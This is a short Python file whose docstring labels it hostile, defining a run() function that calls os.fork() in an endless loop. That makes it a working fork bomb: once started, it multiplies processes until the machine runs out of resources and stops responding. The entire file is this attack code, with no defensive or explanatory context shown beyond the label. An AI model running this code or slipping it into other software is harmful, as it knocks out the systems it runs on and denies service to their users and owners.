"""Hostile: doubles its processes for ever."""

import os


def run() -> None:
    """Fork, and let every child do the same."""
    while True:
        os.fork()
